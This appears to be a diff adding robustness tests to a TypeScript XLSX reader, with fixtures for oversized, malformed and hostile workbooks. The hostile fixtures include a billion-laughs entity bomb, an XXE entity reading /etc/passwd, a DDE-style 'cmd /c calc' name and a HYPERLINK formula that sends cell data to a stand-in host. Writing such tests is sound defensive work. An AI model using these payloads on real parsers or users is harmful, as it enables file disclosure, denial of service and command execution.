@@ -112,6 +112,137 @@ describe("files that are not what they should be", () => {
   });
 });
 
+const main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
+const relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+
+/** A workbook that lists one part as many sheets. */
+const manySheets = (sheet: string, count: number): Buffer => {
+  const each = (entry: (at: number) => string): string =>
+    Array.from({ length: count }, (_, at) => entry(at)).join("");
+  return rawXlsx(sheet, {
+    "xl/workbook.xml": `<workbook ${main} xmlns:r="${relation}"><sheets>${each((at) => `<sheet name="s${at}" sheetId="${at + 1}" r:id="r${at}"/>`)}</sheets></workbook>`,
+    "xl/_rels/workbook.xml.rels": `<Relationships>${each((at) => `<Relationship Id="r${at}" Type="${relation}/worksheet" Target="worksheets/sheet1.xml"/>`)}</Relationships>`,
+  });
+};
+
+const withNames = (names: string): Buffer =>
+  rawXlsx(oneCell, {
+    "xl/workbook.xml": `<workbook ${main} xmlns:r="${relation}"><sheets><sheet name="Biểu" sheetId="1" r:id="b"/></sheets><definedNames>${names}</definedNames></workbook>`,
+  });
+
+const row = (number: number, cells: string): string => `<row r="${number}">${cells}</row>`;
+const firstCell = row(1, '<c r="A1"><v>1</v></c>');
+
+/** What readers would do for hours, or fill the memory with, if they did as they are told. */
+const endless: readonly (readonly [what: string, bytes: () => Buffer, kind: string])[] = [
+  ["ten thousand sheets", () => manySheets(oneCell, 10_000), "tooLarge"],
+  [
+    "sheets that are large grids together",
+    () => manySheets(sheetXml(firstCell + row(2_999, '<c r="ALK2999"><v>1</v></c>')), 50),
+    "tooLarge",
+  ],
+  ["elements that open and never close", () => rawXlsx(sheetXml("<a>".repeat(100_000))), "damaged"],
+  ["tags within tags", () => rawXlsx(sheetXml("<row true".repeat(100_000))), "damaged"],
+  ["nothing but «<»", () => rawXlsx(sheetXml("<".repeat(1_000_000))), "damaged"],
+  ["a tag without end", () => rawXlsx(sheetXml(`<row ${"a ".repeat(500_000)}`)), "damaged"],
+  [
+    "a tag of a million attributes",
+    () => rawXlsx(sheetXml(`<row ${'a="b" '.repeat(1_000_000)}/>`)),
+    "damaged",
+  ],
+  [
+    "links within links",
+    () => rawXlsx(oneCell, { "xl/_rels/workbook.xml.rels": "<Relationship ".repeat(100_000) }),
+    "damaged",
+  ],
+  [
+    "a long formula that many cells share",
+    () =>
+      rawXlsx(
+        sheetXml(
+          row(1, `<c r="A1"><f t="shared" si="0">${'"'.padEnd(8_000, "x")}"</f></c>`) +
+            Array.from({ length: 5_000 }, (_, at) =>
+              row(at + 2, `<c r="A${at + 2}"><f t="shared" si="0"/></c>`),
+            ).join(""),
+        ),
+      ),
+    "damaged",
+  ],
+  [
+    "entities that multiply a billion times",
+    () => {
+      const names = [..."abcdefghij"];
+      const entities = names.map(
+        (name, at) => `<!ENTITY ${name} "${at === 0 ? "ha" : `&${names[at - 1]};`.repeat(10)}">`,
+      );
+      const cell = row(1, '<c r="A1" t="inlineStr"><is><t>&j;</t></is></c>');
+      return rawXlsx(`<!DOCTYPE x [${entities.join("")}]>${sheetXml(cell)}`);
+    },
+    "damaged",
+  ],
+  [
+    "an entity that is another file",
+    () =>
+      rawXlsx(
+        `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>${sheetXml(row(1, '<c r="A1" t="inlineStr"><is><t>&a;</t></is></c>'))}`,
+      ),
+    "damaged",
+  ],
+  [
+    "merges that lie on each other",
+    () =>
+      rawXlsx(
+        sheetXml(
+          firstCell,
+          `<mergeCells>${'<mergeCell ref="A1:Z9999"/>'.repeat(20_000)}</mergeCells>`,
+        ),
+      ),
+    "read",
+  ],
+  [
+    "a name for every cell there is",
+    () => withNames('<definedName name="x">Biểu!$A$1:$XFD$1048576</definedName>'),
+    "read",
+  ],
+  [
+    "names that are formulas, programs and addresses",
+    () =>
+      withNames(
+        `<definedName name="x">HYPERLINK("http://a.example/"&amp;Biểu!A1)</definedName><definedName name="y">cmd|'/c calc'!A1</definedName>`,
+      ),
+    "read",
+  ],
+  [
+    "figures of another workbook",
+    () =>
+      rawXlsx(sheetXml(row(1, "<c r=\"A1\"><f>'[1]Biểu'!A1</f><v>1</v></c>")), {
+        "xl/externalLinks/externalLink1.xml": "<externalLink/>",
+        "xl/externalLinks/_rels/externalLink1.xml.rels": `<Relationships><Relationship Id="a" Type="${relation}/externalLinkPath" Target="http://a.example/b.xlsx" TargetMode="External"/></Relationships>`,
+      }),
+    "read",
+  ],
+];
+
+describe("workbooks that would keep a reader busy", () => {
+  for (const [what, bytes, kind] of endless) {
+    it(`says of ${what}, at once: ${kind}`, () => {
+      const read = readXlsx(bytes());
+      assert.equal(read.ok ? "read" : read.failure.kind, kind);
+      if (read.ok) assert.deepEqual(read.value.sheets[0]?.values, [[1]]);
+    });
+  }
+
+  it("writes a copy without a name for every cell there is, and says so", async () => {
+    const host = await opened(
+      withNames(
+        '<definedName name="x">Biểu!$A$1:$XFD$1048576</definedName><definedName name="y">Biểu!$A$1</definedName>',
+      ),
+    );
+    assert.deepEqual(host.lost, ["names"]);
+    assert.deepEqual((await readFirst(Buffer.from(await host.toBytes()))).values, [[1]]);
+  });
+});
+
 describe("workbooks made to hurt", () => {
   it("says when cells stand too far apart to be read as a grid", async () => {
     const rows =
